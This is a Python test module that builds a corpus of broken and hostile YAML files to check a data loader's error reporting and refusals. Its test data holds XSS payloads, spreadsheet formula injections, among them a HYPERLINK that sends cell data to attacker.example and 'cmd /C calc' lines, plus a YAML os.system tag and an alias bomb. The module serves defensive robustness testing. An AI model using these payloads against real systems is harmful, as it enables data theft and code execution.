"""A corpus of bad and hostile data files, built from the canonical fixture.

Each case says what loading it must give: located `problems` (exit 1, every problem on a line
of the file), a clear `refusal` (exit 2: too large, not UTF-8, unreadable), or `valid` for
hostile text that is legitimate data (HTML, scripts and formulas in text fields load as text;
rendering and export must keep them inert)."""

from __future__ import annotations

import os
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from tests.helpers import MINI

REPO = Path(__file__).resolve().parent.parent.parent
BIG = 100_000_000  # "100 MB files"
OVER_LIMIT = 600 * 1024 * 1024

HTML_PAYLOADS = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "[link](javascript:alert(1)) <svg onload=alert(1)>",
)
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
# Free-text fields: every `en`/`zh` of a Text, and the plain notes and names.
TEXT_KEYS = {"en", "zh", "note", "publisher", "title_note", "date_note", "assessor", "meeting"}


@dataclass(frozen=True)
class Case:
    name: str
    expect: str  # "problems", "refusal" or "valid"
    write: Callable[[Path], None]
    code: str | None = None  # a problem code that must be among those reported
    big: bool = False  # 100 MB or more: checked on the command line only

    def build(self, folder: Path) -> Path:
        path = folder / f"{self.name}.yaml"
        self.write(path)
        return path


def mini_text() -> str:
    """The fixture with its file paths made absolute, so that a copy anywhere loads clean."""
    return MINI.read_text(encoding="utf-8").replace("../../", f"{REPO}/")


def _text(text: str) -> Callable[[Path], None]:
    return lambda path: path.write_text(text, encoding="utf-8")


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _replace(old: str, new: str, count: int = 1) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        text = mini_text()
        assert old in text, old
        path.write_text(text.replace(old, new, count), encoding="utf-8")

    return write


def _big_scalar(path: Path) -> None:
    with path.open("w", encoding="ascii") as out:
        for _ in range(BIG // 1_000_000):
            out.write("a" * 1_000_000)
        out.write("\n")


def _big_garbage(path: Path) -> None:
    rng = random.Random(1)
    with path.open("wb") as out:
        for _ in range(BIG // 1_000_000):
            out.write(rng.randbytes(1_000_000))


def _big_field(path: Path) -> None:
    with path.open("w", encoding="utf-8") as out:
        out.write(mini_text())
        out.write("padding: '")
        for _ in range(BIG // 1_000_000):
            out.write("x" * 1_000_000)
        out.write("'\n")


def _big_records(path: Path) -> None:
    """100 MB of records that are well-formed YAML but wrong: an unknown section of them."""
    record = "  - {id: X, note: " + "y" * 1000 + "}\n"
    with path.open("w", encoding="utf-8") as out:
        out.write(mini_text())
        out.write("extra:\n")
        out.write(record * (BIG // len(record)))


def _over_limit(path: Path) -> None:
    with path.open("wb") as out:
        out.truncate(OVER_LIMIT)  # sparse: no disk used, but its size is over the limit


def _payloads(payloads: tuple[str, ...]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        data = yaml.safe_load(mini_text())
        counter = iter(range(10**9))

        def hostile(value: Any, key: str | None = None) -> Any:
            if isinstance(value, dict):
                if key == "source_files":  # paths, not text
                    return value
                return {k: hostile(v, k) for k, v in value.items()}
            if isinstance(value, list):
                return [hostile(item, key) for item in value]
            if isinstance(value, str) and key in TEXT_KEYS:
                return f"{payloads[next(counter) % len(payloads)]} {value}"
            return value

        path.write_text(
            yaml.safe_dump(hostile(data), allow_unicode=True, sort_keys=False), encoding="utf-8"
        )

    return write


def _nested(depth: int) -> str:
    return "".join(f"{'  ' * level}k{level}:\n" for level in range(depth)) + "  " * depth + "v\n"


def cases() -> list[Case]:
    mini = mini_text()
    bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
    )
    return [
        # syntax
        Case(
            "unclosed-quote",
            "problems",
            _replace("date_precision: day", 'date_precision: "day'),
            "yaml-syntax",
        ),
        Case(
            "unclosed-flow",
            "problems",
            _replace("date_precision: day", "date_precision: [day"),
            "yaml-syntax",
        ),
        Case(
            "tab-indent",
            "problems",
            _replace("  date_precision: day", "\tdate_precision: day"),
            "yaml-syntax",
        ),
        Case(
            "mapping-in-scalar",
            "problems",
            _replace("date_precision: day", "date_precision: day: x"),
            "yaml-syntax",
        ),
        Case("two-documents", "problems", _text(mini + "---\nschema_version: 1\n"), "yaml-syntax"),
        Case("empty-file", "problems", _text(""), "not-a-mapping"),
        Case("scalar-document", "problems", _text("just some words\n"), "not-a-mapping"),
        Case("list-document", "problems", _text("- a\n- b\n"), "not-a-mapping"),
        Case(
            "python-tag",
            "problems",
            _replace(
                "date_precision: day",
                'date_precision: !!python/object/apply:os.system ["echo pwned"]',
            ),
            "yaml-syntax",
        ),
        # duplicate keys
        Case("duplicate-section", "problems", _text(mini + "reviews: []\n"), "duplicate-key"),
        Case(
            "duplicate-field",
            "problems",
            _replace("  date_precision: day\n", "  date_precision: day\n  date_precision: year\n"),
            "duplicate-key",
        ),
        # wrong types and values
        Case(
            "paragraph-not-int",
            "problems",
            _replace("paragraph: 4", "paragraph: one"),
            "wrong-type",
        ),
        Case(
            "actors-as-mapping",
            "problems",
            _replace("actors:\n", "actors: {USA: x}\nunused:\n"),
            "wrong-type",
        ),
        Case(
            "impossible-date",
            "problems",
            _replace("date: '2023-06-16'", "date: 2023-02-30"),
            "bad-date",
        ),
        Case(
            "unknown-status",
            "problems",
            _replace("status: no_progress", "status: excellent"),
            "unknown-value",
        ),
        Case(
            "missing-field", "problems", _replace("  rationale:\n", "  rationale_removed:\n"), None
        ),
        Case(
            "unknown-field",
            "problems",
            _replace("  date_precision: day\n", "  date_precision: day\n  colour: red\n"),
            "unknown-field",
        ),
        Case(
            "huge-integer",
            "problems",
            _replace("paragraph: 4", "paragraph: " + "9" * 5000),
            "wrong-type",
        ),
        Case(
            "future-date",
            "problems",
            _replace("date: '2023-06-16'", "date: '2199-01-01'"),
            "future-date",
        ),
        # dangling references
        Case(
            "dangling-evidence",
            "problems",
            _replace("  evidence:\n  - E01\n", "  evidence:\n  - E99\n"),
            "dangling-reference",
        ),
        Case(
            "dangling-resolution",
            "problems",
            _replace("resolution: A/RES/58/50", "resolution: A/RES/99/1"),
            "dangling-reference",
        ),
        Case(
            "dangling-actor",
            "problems",
            _replace("actor: RUS", "actor: ATLANTIS"),
            "dangling-reference",
        ),
        # aliases
        Case("alias-bomb", "problems", _text(bomb), "yaml-alias"),
        Case(
            "alias-in-data",
            "problems",
            _replace("date_precision: day", "date_precision: &p day\n  date_note: *p"),
            "yaml-alias",
        ),
        Case("merge-key", "problems", _text("base: &b {x: 1}\nother:\n  <<: *b\n"), "yaml-alias"),
        # nesting
        Case(
            "deep-flow",
            "problems",
            _text("a: " + "[" * 10_000 + "]" * 10_000 + "\n"),
            "yaml-syntax",
        ),
        Case("deep-block", "problems", _text(_nested(60)), "too-deep"),
        Case(
            "deep-flow-mappings",
            "problems",
            _text("a: " + "{a: " * 500 + "1" + "}" * 500 + "\n"),
            None,
        ),
        # size
        Case("big-scalar", "problems", _big_scalar, "not-a-mapping", big=True),
        Case("big-garbage", "refusal", _big_garbage, "not-utf8", big=True),
        Case("big-field", "problems", _big_field, "unknown-field", big=True),
        Case("big-records", "problems", _big_records, "unknown-field", big=True),
        Case("over-the-limit", "refusal", _over_limit, "file-too-large", big=True),
        # bytes and encodings
        Case("binary-garbage", "refusal", _bytes(random.Random(2).randbytes(4096)), "not-utf8"),
        Case(
            "nul-bytes",
            "problems",
            _text(mini.replace("date_precision: day", "date_precision: d\x00y", 1)),
            "yaml-syntax",
        ),
        Case(
            "control-characters",
            "problems",
            _text(mini.replace("date_precision: day", "date_precision: d\x07\x1by", 1)),
            "yaml-syntax",
        ),
        Case("utf16", "refusal", _bytes(mini.encode("utf-16")), "not-utf8"),
        Case("utf32", "refusal", _bytes(mini.encode("utf-32")), "not-utf8"),
        Case(
            "latin1",
            "refusal",
            _bytes(mini.replace("day", "dày", 1).encode("latin-1", "replace")),
            "not-utf8",
        ),
        Case("gb18030", "refusal", _bytes(mini.encode("gb18030")), "not-utf8"),
        Case(
            "lone-surrogate", "refusal", _bytes(mini.encode() + b"note: \xed\xa0\x80\n"), "not-utf8"
        ),
        # URLs
        Case(
            "javascript-url",
            "problems",
            _replace(
                "url: https://press.un.org/en/2003/ga10217.doc.htm", "url: javascript:alert(1)"
            ),
            "bad-url",
        ),
        Case(
            "data-url",
            "problems",
            _replace(
                "url: https://press.un.org/en/2003/ga10217.doc.htm",
                "url: 'data:text/html,<script>alert(1)</script>'",
            ),
            "bad-url",
        ),
        Case(
            "spaced-javascript-url",
            "problems",
            _replace(
                "url: https://press.un.org/en/2003/ga10217.doc.htm", "url: ' JavaScript:alert(1)'"
            ),
            "bad-url",
        ),
        Case(
            "vbscript-url",
            "problems",
            _replace(
                "url: https://press.un.org/en/2003/ga10217.doc.htm", "url: vbscript:msgbox(1)"
            ),
            "bad-url",
        ),
        # hostile text that is legitimate data
        Case("html-in-every-text", "valid", _payloads(HTML_PAYLOADS)),
        Case("formulas-in-every-text", "valid", _payloads(FORMULA_PAYLOADS)),
    ]


def iter_cases(big: bool | None = None) -> Iterator[Case]:
    for case in cases():
        if big is None or case.big == big:
            yield case


if __name__ == "__main__":  # python -m tests.robustness.corpus DIR: write the corpus out
    import sys

    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases():
        print(case.build(folder), os.path.getsize(folder / f"{case.name}.yaml"))
